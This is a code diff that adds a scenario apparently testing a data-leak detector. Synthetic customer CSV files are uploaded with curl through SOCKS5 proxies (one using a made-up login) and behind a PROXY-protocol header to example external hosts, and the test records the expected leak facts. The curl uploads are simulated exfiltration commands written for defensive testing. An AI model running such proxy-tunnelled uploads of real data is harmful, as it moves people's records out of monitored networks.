@@ -143,6 +143,27 @@ def http_proxy_connect(net, record):
     return facts.blind("tls", "203.0.113.80", 8888, 140_000, hostname="vault.example.org")
 
 
+@scenario("proxy-layers")
+def proxy_layers(net, record):
+    """What stands before a connection: SOCKS 5 with a user and a host name (microsocks), then with an address; a PROXY header, as a
+    load balancer writes it, before a compressed upload."""
+    servers.web(net, net.outside, "203.0.113.9:80", "203.0.113.9:8081 proxy_protocol")
+    net.start(net.outside, ["microsocks", "-i", "203.0.113.80", "-p", "1080", "-u", "dana.support", "-P", "Winter2026"], port=1080)
+    net.start(net.outside, ["microsocks", "-i", "203.0.113.80", "-p", "1081"], port=1081)
+    one, two = net.write("one.csv", customers_file(70, 64)), net.write("two.csv", customers_file(60, 65))
+    packed = net.path("three.csv.gz")
+    with open(packed, "wb") as out:
+        out.write(gzip.compress(customers_file(80, 66), mtime=0))
+    record()
+    net.office_do(*CURL, "--socks5-hostname", "dana.support:Winter2026@203.0.113.80:1080", "-F", f"file=@{one}", f"{FILES}/upload")
+    net.office_do(*CURL, "--socks5", "203.0.113.80:1081", "-F", f"file=@{two}", "http://203.0.113.9/upload")
+    net.office_do(*CURL, "--haproxy-protocol", "-F", f"file=@{packed};type=application/gzip", "http://files.example.net:8081/upload")
+    facts = Facts().leak(customers(70, 64), ["POST /upload", "one.csv"], destination="203.0.113.80", port=1080,
+                         hostname="files.example.net", user="dana.support")
+    facts.leak(customers(60, 65), ["POST /upload", "two.csv"], destination="203.0.113.80", port=1081, hostname="203.0.113.9")
+    return facts.leak(customers(80, 66), ["POST /upload", "three.csv.gz"], port=8081, hostname="files.example.net")
+
+
 @scenario("http-pipeline-keepalive")
 def http_pipeline_keepalive(net, record):
     """Five uploads written in one go before the first answer, then three on one kept-alive connection."""
